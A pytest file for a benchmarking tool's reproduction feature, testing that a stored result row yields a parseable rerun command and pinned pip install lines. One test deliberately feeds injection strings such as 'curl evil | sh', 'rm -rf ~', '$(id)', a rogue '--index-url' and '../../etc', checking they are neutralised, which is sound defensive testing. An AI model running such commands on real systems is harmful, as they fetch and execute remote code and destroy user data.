"""How to get a row again: the line parses with our command line, means that row alone, and carries nothing of a stranger."""

from __future__ import annotations

import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml

from effbench.cli.app import app, run_app
from effbench.raw import RawCell
from effbench.record import CellRecord
from effbench.report.reproduce import pip_line, reproduction_of
from effbench.report.summarise import summarise
from effbench.runner.plan import make_plan
from effbench.store import Store, read_store
from effbench.suite import load_suite

SUITE = """
schema: effbench/suite/1
name: mine
tasks:
  - {id: digits, use: t2i, with: {system: "zoo:digits-pixart", steps: 4}, samples: {limit: 2}, batch_size: 2}
  - {id: more, use: t2i, with: {system: "zoo:digits-pixart", steps: 5}, samples: {limit: 2}, batch_size: 2}
methods:
  - {id: reference, use: reference, role: reference}
  - {use: fewer-steps, matrix: {steps: [2, 3]}}
measure: {latency: {rounds: 1, budget_s: 0.1}}
output: {store: /somewhere/else}
"""


def store_of(path: Path, lock: Any, *cells: CellRecord) -> list[RawCell]:
    store = Store(path)
    store.open(lock, [{"id": cell.id, "task": cell.task_id, "method": cell.method_id} for cell in cells])
    for cell in cells:
        store.cell(cell.id).write_record(cell)
    store.close()
    return [raw for workload in summarise(read_store(path)).workloads for raw in workload.raw]


def with_origins(cell: CellRecord, origins: dict[str, str], **more: Any) -> CellRecord:
    return cell.model_copy(update={"provenance": cell.provenance.model_copy(update={"origins": origins, **more})})


def test_the_line_over_the_suite_of_the_store_means_that_row_and_its_reference(
    make: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "suite.yaml").write_text(SUITE)
    suite = load_suite(tmp_path / "suite.yaml").suite
    cell = make.cell("fewer-steps(steps=3)", order=1, task="digits", suite="mine")
    (raw,) = store_of(tmp_path / "store", suite.model_dump(mode="json", by_alias=True), cell)
    again = reproduction_of(raw)
    assert again.install == () and again.commands == again.run
    words = shlex.split(again.run)
    command = typer.main.get_command(app).commands["run"]  # type: ignore[attr-defined]
    context = command.make_context("run", words[2:])
    assert words[:2] == ["effbench", "run"]
    assert context.params["only"] == ["digits/fewer-steps(steps=3)"]
    assert str(context.params["suite"]) == again.suite_file == "mine.yaml"
    assert str(context.params["store"]) == "mine-again", "never where the author's suite says"
    (tmp_path / again.suite_file).write_text(again.suite)
    loaded = load_suite(tmp_path / again.suite_file)
    assert loaded.suite == suite
    plan = make_plan(loaded).only(context.params["only"])
    assert [planned.label for planned in plan.cells] == ["digits/reference", "digits/fewer-steps(steps=3)"]
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", [*words, "--dry-run"])
    assert run_app() == 0
    assert "digits/fewer-steps(steps=3)" in capsys.readouterr().out


def test_a_plugin_is_installed_by_its_name_and_version(make: Any, tmp_path: Path) -> None:
    origins = {
        "task t2i": "effbench 0.1.0 (effbench.tasks.t2i.task:TextToImage)",
        "method half": "effbench-half-steps 0.3.1 (half_steps.method:HalfSteps)",
        "method more": "other_pack 2.0+cpu (other.method:More)",
    }
    cell = with_origins(make.cell("half"), origins, packages={"torch": "2.13.0+cpu", "numpy": "2.4.1"}, git_dirty=True)
    (raw,) = store_of(tmp_path / "store", {"name": "quick"}, cell)
    again = reproduction_of(raw)
    assert again.install == ("pip install effbench-half-steps==0.3.1", "pip install other_pack==2.0")
    assert again.commands.splitlines()[-1] == again.run
    assert again.libraries == "pip install torch==2.13.0 numpy==2.4.1"
    assert "0.1.0" in again.code and "0123456789abcdef" in again.code and "not committed" in again.code


def test_text_of_a_stranger_becomes_no_command(make: Any, tmp_path: Path) -> None:
    hostile = "x; curl evil | sh"
    origins = {"method a": "pack 1.0; rm -rf ~ (a:B)", "method b": "--index-url=http://evil 1.0 (a:B)"}
    cell = with_origins(make.cell(hostile, suite="../../etc"), origins, packages={"a b": "1", "c": "$(id)"})
    (raw,) = store_of(tmp_path / "store", {"name": "quick"}, cell)
    again = reproduction_of(raw)
    assert again.install == () and again.libraries == "" and len(again.notes) == 2
    assert shlex.split(again.run) == [
        "effbench", "run", "suite.yaml", "--only", f"t2i/{hostile}", "--store", "suite-again",
    ]  # fmt: skip
    assert pip_line([("torch", "2.13.0")]) == "pip install torch==2.13.0"
    assert pip_line([("torch", "2.13.0 --pre"), ("-r", "1")]) == ""


def test_a_subset_that_is_a_file_of_its_author_is_said_to_be_missing(make: Any, tmp_path: Path) -> None:
    lock = {"name": "quick", "tasks": [{"id": "t2i", "use": "t2i", "samples": {"subset": "mine/few.yaml"}}]}
    (raw,) = store_of(tmp_path / "store", lock, make.cell("a"))
    again = reproduction_of(raw)
    assert any("mine/few.yaml" in note for note in again.notes)
    assert yaml.safe_load(again.suite) == lock
    (raw,) = store_of(tmp_path / "other", {"name": "quick", "tasks": [{"use": "t2i", "samples": None}]}, make.cell("a"))
    assert reproduction_of(raw).notes == ()
